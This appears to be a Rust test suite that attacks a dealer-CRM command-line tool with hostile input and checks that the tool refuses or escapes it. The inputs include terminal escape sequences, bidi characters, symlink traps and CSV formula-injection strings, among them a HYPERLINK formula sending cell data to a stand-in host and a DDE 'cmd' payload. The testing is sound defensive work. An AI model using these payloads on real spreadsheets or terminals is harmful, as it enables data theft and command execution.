//! Hostile input, as an adversary with only the dcc binary and the files a
//! dealer receives would try it: terminal escapes and invisible characters
//! in text, spreadsheet formulas, output paths aimed at the database or
//! through a link, times far away. Real processes on real files.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use dcc_desk::domain::text::is_unsafe;

struct Run {
    ok: bool,
    stdout: Vec<u8>,
    stderr: String,
}

impl Run {
    fn out(&self) -> String {
        String::from_utf8_lossy(&self.stdout).into_owned()
    }
}

fn dcc(db: &Path, user: &str, args: &[&str]) -> Run {
    let out = common::dcc_as(db, user, "2026-11-23T10:00")
        .args(args)
        .output()
        .unwrap();
    Run {
        ok: out.status.success(),
        stdout: out.stdout,
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn ok(db: &Path, user: &str, args: &[&str]) -> String {
    let r = dcc(db, user, args);
    assert!(r.ok, "dcc {args:?} failed: {}", r.stderr);
    r.out()
}

fn fail(db: &Path, user: &str, args: &[&str]) -> String {
    let r = dcc(db, user, args);
    assert!(!r.ok, "dcc {args:?} should fail; printed {}", r.out());
    r.stderr
}

/// No byte a terminal would obey: no C0 but line feed, tab and the CR of a
/// CRLF, no DEL, and (as text) no C1, text-direction or invisible character.
fn assert_terminal_safe(what: &str, bytes: &[u8]) {
    for (i, b) in bytes.iter().enumerate() {
        let allowed = matches!(b, b'\n' | b'\t')
            || (*b == b'\r' && bytes.get(i + 1) == Some(&b'\n'))
            || (*b >= 0x20 && *b != 0x7f);
        assert!(allowed, "{what}: byte {b:#04x} at {i}");
    }
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: not UTF-8: {e}"));
    // The BOM at the start of a CSV is the one invisible character that belongs.
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let bad: Vec<char> = text
        .chars()
        .filter(|c| is_unsafe(*c) && !matches!(c, '\n' | '\t' | '\r'))
        .collect();
    assert!(bad.is_empty(), "{what}: {bad:?}");
}

struct Team {
    dir: tempfile::TempDir,
    db: PathBuf,
}

fn team() -> Team {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("dcc.sqlite");
    ok(&db, "boss", &["init", "--name", "张主管"]);
    ok(
        &db,
        "boss",
        &[
            "agent", "add", "amy", "--name", "王芳", "--role", "outbound",
        ],
    );
    Team { dir, db }
}

fn add_lead(db: &Path, name: &str, phone: &str, model: &str) -> i64 {
    ok(
        db,
        "amy",
        &[
            "lead",
            "add",
            "--name",
            name,
            "--phone",
            phone,
            "--channel",
            "汽车之家",
            "--model",
            model,
            "--purchase-by",
            "2026-11-28",
        ],
    )
    .trim()
    .parse()
    .unwrap()
}

/// Text as another program (or an older dcc) could have stored it, past
/// the checks at the door.
fn store_raw(db: &Path, lead: i64, column: &str, value: &str) {
    let c = rusqlite::Connection::open(db).unwrap();
    c.execute(
        &format!("UPDATE leads SET {column} = ?1 WHERE id = ?2"),
        rusqlite::params![value, lead],
    )
    .unwrap();
}

const ESCAPES: &[&str] = &[
    "M\x1b]52;c;aGVsbG8K\x07",
    "\x1b[2J清屏",
    "\x1b]0;pwned\x07",
    "\x1b]8;;http://x/\x1b\\link\x1b]8;;\x1b\\",
    "张\u{202E}三",
    "李\u{200B}四",
    "C1\u{9b}2J",
    "a\u{2066}b",
];

#[test]
fn control_bidi_and_invisible_characters_are_refused_at_every_door_of_the_command_line() {
    let t = team();
    for (i, bad) in ESCAPES.iter().enumerate() {
        let phone = format!("1380000{i:04}");
        let args = [
            "lead",
            "add",
            "--name",
            bad,
            "--phone",
            &phone,
            "--channel",
            "汽车之家",
            "--model",
            "凯美瑞",
            "--grade",
            "A",
        ];
        let err = fail(&t.db, "amy", &args);
        assert!(
            err.contains("control character")
                || err.contains("text-direction")
                || err.contains("invisible"),
            "{bad:?}: {err}"
        );
        assert_terminal_safe("the refusal", err.as_bytes());
    }
    let lead = add_lead(&t.db, "韩梅梅", "13812345678", "凯美瑞");
    let id = lead.to_string();
    let err = fail(
        &t.db,
        "amy",
        &["log", &id, "reached", "--note", "好\x1b]52;c;aGk=\x07"],
    );
    assert!(err.contains("the note holds a control character"), "{err}");
    let long = "长".repeat(2001);
    let err = fail(&t.db, "amy", &["log", &id, "reached", "--note", &long]);
    assert!(err.contains("the limit is 2000"), "{err}");
    let err = fail(&t.db, "boss", &["set", "dealer", "车行\u{202E}gnp.exe"]);
    assert!(err.contains("text-direction"), "{err}");
    let script = t.dir.path().join("script.txt");
    std::fs::write(&script, "您好 {customer}\x1b[2J").unwrap();
    let err = fail(
        &t.db,
        "boss",
        &[
            "script",
            "set",
            "follow_up",
            "--file",
            script.to_str().unwrap(),
        ],
    );
    assert!(err.contains("control character"), "{err}");
    let err = fail(
        &t.db,
        "boss",
        &[
            "reason",
            "add",
            "defeat",
            "x1",
            "--zh",
            "价格\x07",
            "--en",
            "price",
        ],
    );
    assert!(err.contains("control character"), "{err}");
    // And in Chinese, naming the limit.
    let r = Command::new(env!("CARGO_BIN_EXE_dcc"))
        .args(["--lang", "zh-CN", "log", &id, "reached", "--note", &long])
        .env("DCC_DB", &t.db)
        .args(["--login", "amy"])
        .env("DCC_NOW", "2026-11-23T10:00")
        .env("DCC_CONFIG", t.db.with_extension("no-config.toml"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&r.stderr);
    assert!(err.contains("上限为 2000"), "{err}");
}

#[test]
fn stored_escapes_never_reach_the_terminal_from_any_command() {
    let t = team();
    let lead = add_lead(&t.db, "韩梅梅", "13812345678", "凯美瑞");
    let id = lead.to_string();
    ok(
        &t.db,
        "amy",
        &["log", &id, "appointment", "--visit", "2026-11-24 10:00"],
    );
    store_raw(&t.db, lead, "name", &ESCAPES.join(" "));
    store_raw(&t.db, lead, "model", "M\x1b]52;c;aGVsbG8K\x07");
    store_raw(&t.db, lead, "note", "第一行\n\x1b[2J第二行\u{202E}");
    for (user, args) in [
        ("amy", vec!["lead", "show", &id]),
        ("amy", vec!["lead", "show", &id, "--format", "json"]),
        ("amy", vec!["queue", "--date", "2026-11-23"]),
        (
            "amy",
            vec!["queue", "--date", "2026-11-23", "--format", "csv"],
        ),
        (
            "amy",
            vec!["queue", "--date", "2026-11-23", "--format", "json"],
        ),
        ("amy", vec!["export", "visits"]),
        ("amy", vec!["export", "visits", "--format", "table"]),
        ("amy", vec!["export", "visits", "--format", "json"]),
        ("boss", vec!["report", "grades", "--format", "table"]),
        ("boss", vec!["report", "agents", "--format", "csv"]),
    ] {
        let r = dcc(&t.db, user, &args);
        assert!(r.ok, "{args:?}: {}", r.stderr);
        assert_terminal_safe(&format!("{args:?}"), &r.stdout);
        if (args.contains(&"lead") || args.contains(&"visits")) && !args.contains(&"json") {
            let out = r.out();
            assert!(out.contains("\\x1b]52;c;aGVsbG8K\\x07"), "{args:?}: {out}");
        }
    }
    // JSON stays valid JSON, with the same text in it.
    let json = ok(&t.db, "amy", &["lead", "show", &id, "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(v["model"], "M\x1b]52;c;aGVsbG8K\x07");
}

#[test]
fn every_csv_cell_a_spreadsheet_would_run_starts_with_an_apostrophe() {
    let t = team();
    let formula = "=HYPERLINK(\"http://x/?\"&A1,\"click\")";
    let lead = add_lead(&t.db, "@SUM(1+1)", "13812345678", formula);
    ok(
        &t.db,
        "boss",
        &[
            "agent",
            "add",
            "eve",
            "--name",
            "+cmd|' /C calc'!A0",
            "--role",
            "outbound",
        ],
    );
    ok(
        &t.db,
        "amy",
        &[
            "log",
            &lead.to_string(),
            "appointment",
            "--visit",
            "2026-11-24 10:00",
        ],
    );
    let visits = ok(&t.db, "amy", &["export", "visits", "--format", "csv"]);
    let queue = ok(
        &t.db,
        "boss",
        &["queue", "--date", "2026-11-25", "--all", "--format", "csv"],
    );
    let queue_day = queue.clone();
    ok(&t.db, "amy", &["log", &lead.to_string(), "visited"]);
    ok(&t.db, "amy", &["log", &lead.to_string(), "ordered"]);
    let models = ok(&t.db, "boss", &["report", "models", "--format", "csv"]);
    assert!(
        models.contains(&format!("\"'{}\"", formula.replace('"', "\"\""))),
        "{models}"
    );
    let agents = ok(&t.db, "boss", &["report", "agents", "--format", "csv"]);
    let team_csv = ok(&t.db, "boss", &["agent", "list", "--format", "csv"]);
    for (what, csv) in [("visits", &visits), ("queue", &queue)] {
        let cells: Vec<String> =
            csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes())
                .records()
                .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
                .collect();
        assert!(
            cells.iter().any(|c| c == &format!("'{formula}")),
            "{what}: {csv}"
        );
        assert!(cells.iter().any(|c| c == "'@SUM(1+1)"), "{what}: {csv}");
        for c in &cells {
            assert!(!c.starts_with(['=', '+', '@']), "{what}: {c}");
        }
    }
    assert!(!queue_day.is_empty());
    assert!(team_csv.contains("'+cmd|' /C calc'!A0"), "{team_csv}");
    // A plain negative number stays a number.
    assert!(!agents.contains("'-"), "{agents}");
}

/// Still the team's database: a SQLite file that dcc opens, whose check
/// passes.
fn assert_database_intact(db: &Path) {
    let head = std::fs::read(db).unwrap();
    assert!(
        head.starts_with(b"SQLite format 3\0"),
        "the database was replaced"
    );
    let c = rusqlite::Connection::open(db).unwrap();
    let check: String = c
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap();
    assert_eq!(check, "ok");
    let agents: i64 = c
        .query_row("SELECT count(*) FROM agents", [], |r| r.get(0))
        .unwrap();
    assert!(agents >= 2);
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

#[test]
fn output_files_never_replace_the_database_follow_a_link_or_overwrite_without_force() {
    let t = team();
    let lead = add_lead(&t.db, "韩梅梅", "13812345678", "凯美瑞");
    ok(
        &t.db,
        "amy",
        &[
            "log",
            &lead.to_string(),
            "appointment",
            "--visit",
            "2026-11-24 10:00",
        ],
    );
    let db = t.db.to_str().unwrap();
    // The database, by its name, by another name (a hard link), its -wal.
    let hard = t.dir.path().join("other-name.sqlite");
    std::fs::hard_link(&t.db, &hard).unwrap();
    let wal = format!("{db}-wal");
    std::fs::write(&wal, b"").ok();
    for target in [db, hard.to_str().unwrap(), &wal] {
        let err = fail(
            &t.db,
            "amy",
            &["export", "visits", "--output", target, "--force"],
        );
        assert!(err.contains("is the database or one of its files"), "{err}");
        let err = fail(
            &t.db,
            "boss",
            &[
                "report", "agents", "--format", "csv", "--output", target, "--force",
            ],
        );
        assert!(err.contains("is the database"), "{err}");
    }
    assert_database_intact(&t.db);

    // A link planted where the file goes: refused, its target untouched.
    let victim = t.dir.path().join("victim.txt");
    std::fs::write(&victim, "keep me").unwrap();
    let link = t.dir.path().join("visits.csv");
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    let err = fail(
        &t.db,
        "amy",
        &[
            "export",
            "visits",
            "--output",
            link.to_str().unwrap(),
            "--force",
        ],
    );
    assert!(err.contains("symbolic link"), "{err}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");

    // An existing file: only with --force, and then replaced whole.
    let out = t.dir.path().join("list.csv");
    std::fs::write(&out, "old").unwrap();
    let err = fail(
        &t.db,
        "amy",
        &["export", "visits", "--output", out.to_str().unwrap()],
    );
    assert!(
        err.contains("already exists") && err.contains("--force"),
        "{err}"
    );
    assert_eq!(std::fs::read_to_string(&out).unwrap(), "old");
    ok(
        &t.db,
        "amy",
        &[
            "export",
            "visits",
            "--output",
            out.to_str().unwrap(),
            "--force",
        ],
    );
    assert!(std::fs::read_to_string(&out).unwrap().contains("韩梅梅"));
    assert_eq!(mode(&out), 0o640, "masked numbers: owner and group");
    // Full numbers: the owner only, whatever the umask.
    let full = t.dir.path().join("full.csv");
    ok(
        &t.db,
        "boss",
        &[
            "export",
            "visits",
            "--reveal",
            "--output",
            full.to_str().unwrap(),
        ],
    );
    assert!(std::fs::read_to_string(&full)
        .unwrap()
        .contains("13812345678"));
    assert_eq!(mode(&full), 0o600);
    // No temporary file is left behind.
    let left: Vec<_> = std::fs::read_dir(t.dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn an_import_report_never_replaces_the_database_or_follows_a_planted_link() {
    let t = team();
    let csv = t.dir.path().join("leads.csv");
    std::fs::write(
        &csv,
        "姓名,电话,渠道,车型,级别\n\
         韩梅梅,13812345678,汽车之家,凯美瑞,A\n\
         \"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",12345,汽车之家,凯美瑞,A\n\
         \"坏\x1b[2J\",13912345678,汽车之家,凯美瑞,A\n",
    )
    .unwrap();
    let file = csv.to_str().unwrap();
    let err = fail(
        &t.db,
        "boss",
        &[
            "import",
            file,
            "--report",
            t.db.to_str().unwrap(),
            "--force",
        ],
    );
    assert!(err.contains("is the database"), "{err}");
    assert_database_intact(&t.db);
    assert!(
        !ok(&t.db, "boss", &["queue", "--all"]).contains("韩梅梅"),
        "refused before anything was imported"
    );

    let victim = t.dir.path().join("victim.txt");
    std::fs::write(&victim, "keep me").unwrap();
    let planted = t.dir.path().join("leads.csv.rejected.csv");
    std::os::unix::fs::symlink(&victim, &planted).unwrap();
    let err = fail(&t.db, "boss", &["import", file]);
    assert!(err.contains("symbolic link"), "{err}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
    std::fs::remove_file(&planted).unwrap();

    let out = ok(&t.db, "boss", &["import", file]);
    assert!(out.contains("1 new lead"), "{out}");
    assert!(out.contains("2 rejected"), "{out}");
    assert_terminal_safe("import summary", out.as_bytes());
    let report = std::fs::read_to_string(&planted).unwrap();
    assert!(report.contains("'=HYPERLINK("), "{report}");
    assert!(
        report.contains("the name holds a control character (\\x1b)"),
        "{report}"
    );
    assert_eq!(mode(&planted), 0o600, "rejected rows hold full numbers");
    // Importing again replaces the earlier report; any other file needs --force.
    ok(&t.db, "boss", &["import", file]);
    let other = t.dir.path().join("mine.csv");
    std::fs::write(&other, "mine").unwrap();
    let err = fail(
        &t.db,
        "boss",
        &["import", file, "--report", other.to_str().unwrap()],
    );
    assert!(err.contains("--force"), "{err}");
    assert_eq!(std::fs::read_to_string(&other).unwrap(), "mine");
}

#[test]
fn times_far_away_are_refused_with_their_range() {
    let t = team();
    let lead = add_lead(&t.db, "韩梅梅", "13812345678", "凯美瑞");
    let id = lead.to_string();
    let err = fail(
        &t.db,
        "amy",
        &["log", &id, "callback-at", "--at", "+2932896"],
    );
    assert!(err.contains("a callback must be within a year"), "{err}");
    let err = fail(
        &t.db,
        "amy",
        &["log", &id, "callback-at", "--at", "2300-01-01 10:00"],
    );
    assert!(err.contains("within a year"), "{err}");
    let err = fail(
        &t.db,
        "amy",
        &["log", &id, "appointment", "--visit", "2027-06-01 10:00"],
    );
    assert!(err.contains("a visit must be within 90 days"), "{err}");
    let err = fail(
        &t.db,
        "amy",
        &[
            "lead",
            "add",
            "--name",
            "李雷",
            "--phone",
            "13912345678",
            "--channel",
            "汽车之家",
            "--model",
            "凯美瑞",
            "--purchase-by",
            "9999-12-31",
        ],
    );
    assert!(
        err.contains("an expected purchase must be within three years"),
        "{err}"
    );
    ok(
        &t.db,
        "amy",
        &["log", &id, "callback-at", "--at", "2027-05-01 10:00"],
    );
}
